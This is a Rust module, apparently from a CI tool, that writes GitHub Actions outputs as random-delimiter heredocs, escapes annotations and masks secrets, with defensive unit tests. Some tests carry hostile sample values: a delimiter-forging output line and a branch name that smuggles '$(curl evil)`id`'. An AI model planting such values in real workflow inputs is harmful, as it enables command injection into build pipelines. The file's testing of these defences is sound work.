//! GitHub Actions workflow commands and environment files, written the way actions/toolkit does.
//!
//! Values reach `GITHUB_OUTPUT` as `name<<DELIMITER` heredocs with a random delimiter, and a value
//! that contains the delimiter (or a name that contains a newline) is refused, so no hostile
//! value (a branch name, a PR title) can forge another output line.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;

/// Why an output could not be written.
#[derive(Debug, thiserror::Error)]
pub(crate) enum GhaError {
    /// The output name is empty or contains characters that could break the file format.
    #[error("output name `{}` is invalid: use letters, digits, `-` and `_`", .0.escape_debug())]
    BadName(String),
    /// The value contains the heredoc delimiter (practically impossible unless hostile).
    #[error("output `{0}` contains the random delimiter; refusing to write it")]
    DelimiterInValue(String),
    /// The environment file could not be written.
    #[error("cannot write `{path}`: {source}")]
    Io {
        /// The file.
        path: String,
        /// The cause.
        #[source]
        source: std::io::Error,
    },
}

/// Render `name=value` pairs in the `GITHUB_OUTPUT` heredoc format with `delimiter`.
pub(crate) fn render_outputs(pairs: &[(&str, &str)], delimiter: &str) -> Result<String, GhaError> {
    let mut out = String::new();
    for (name, value) in pairs {
        let name_ok = !name.is_empty()
            && name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
        if !name_ok {
            return Err(GhaError::BadName((*name).to_owned()));
        }
        if value.contains(delimiter) {
            return Err(GhaError::DelimiterInValue((*name).to_owned()));
        }
        let _ = write!(out, "{name}<<{delimiter}\n{value}\n{delimiter}\n");
    }
    Ok(out)
}

/// A fresh random heredoc delimiter (`ghadelimiter_<uuid>`, as actions/toolkit).
pub(crate) fn delimiter() -> String {
    format!("ghadelimiter_{}", uuid::Uuid::new_v4())
}

/// Append text to an environment file (`GITHUB_OUTPUT`, `GITHUB_STEP_SUMMARY`).
pub(crate) fn append(path: &Path, text: &str) -> Result<(), GhaError> {
    let io = |source| GhaError::Io {
        path: path.display().to_string(),
        source,
    };
    let mut f = fs_err::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .map_err(io)?;
    f.write_all(text.as_bytes()).map_err(io)
}

/// Escape data of a workflow command (`::error ...::DATA`): `%`, CR and LF.
pub(crate) fn escape_data(s: &str) -> String {
    s.replace('%', "%25")
        .replace('\r', "%0D")
        .replace('\n', "%0A")
}

/// Escape a property of a workflow command (`file=...,line=...`): also `:` and `,`.
pub(crate) fn escape_property(s: &str) -> String {
    escape_data(s).replace(':', "%3A").replace(',', "%2C")
}

/// An `::error file=F,line=L,col=C,title=T::message` annotation.
pub(crate) fn error_annotation(
    file: &str,
    line: usize,
    col: usize,
    title: &str,
    message: &str,
) -> String {
    format!(
        "::error file={},line={line},col={col},title={}::{}",
        escape_property(file),
        escape_property(title),
        escape_data(message)
    )
}

/// An annotation without a file: `::error title=T::message` (or `warning`, `notice`).
pub(crate) fn annotation(level: &str, title: &str, message: &str) -> String {
    format!(
        "::{level} title={}::{}",
        escape_property(title),
        escape_data(message)
    )
}

/// `::add-mask::VALUE`: the runner hides every later occurrence of each line of the value.
/// A multi-line value is masked line by line (the runner masks one line per command).
pub(crate) fn masks(value: &str) -> Vec<String> {
    value
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(|l| format!("::add-mask::{}", escape_data(l)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn outputs_use_heredocs_with_the_delimiter() {
        let text = render_outputs(&[("name", "preview-x"), ("multi", "a\nb")], "D").unwrap();
        assert_eq!(text, "name<<D\npreview-x\nD\nmulti<<D\na\nb\nD\n");
    }

    #[test]
    fn a_value_containing_the_delimiter_is_refused() {
        let d = delimiter();
        let hostile = format!("x\n{d}\nenvironment_name<<{d}\nprod\n{d}");
        let err = render_outputs(&[("branch", &hostile)], &d).unwrap_err();
        assert!(matches!(err, GhaError::DelimiterInValue(n) if n == "branch"));
    }

    #[test]
    fn a_hostile_value_cannot_forge_an_output_line() {
        let d = delimiter();
        let hostile = "x\nenvironment_name=prod\n$(curl evil)`id`";
        let text = render_outputs(
            &[("branch", hostile), ("environment_name", "preview-x")],
            &d,
        )
        .unwrap();
        // Parse the file the way the runner does: heredoc blocks only.
        let mut parsed = Vec::new();
        let mut lines = text.lines();
        while let Some(header) = lines.next() {
            let (name, delim) = header.split_once("<<").unwrap();
            let mut value = Vec::new();
            for l in lines.by_ref() {
                if l == delim {
                    break;
                }
                value.push(l);
            }
            parsed.push((name.to_owned(), value.join("\n")));
        }
        assert_eq!(
            parsed,
            vec![
                ("branch".to_owned(), hostile.to_owned()),
                ("environment_name".to_owned(), "preview-x".to_owned()),
            ]
        );
    }

    #[test]
    fn output_names_with_newlines_are_refused() {
        assert!(matches!(
            render_outputs(&[("a\nb", "v")], "D"),
            Err(GhaError::BadName(_))
        ));
    }

    #[test]
    fn secrets_are_masked_line_by_line() {
        assert_eq!(
            masks("s3cr3t\n\nline%2"),
            vec!["::add-mask::s3cr3t", "::add-mask::line%252"]
        );
    }

    #[test]
    fn annotations_escape_newlines_and_separators() {
        assert_eq!(
            error_annotation(".idp/config.yml", 3, 7, "invalid config", "bad: x,\ny%"),
            "::error file=.idp/config.yml,line=3,col=7,title=invalid config::bad: x,%0Ay%25"
        );
    }
}
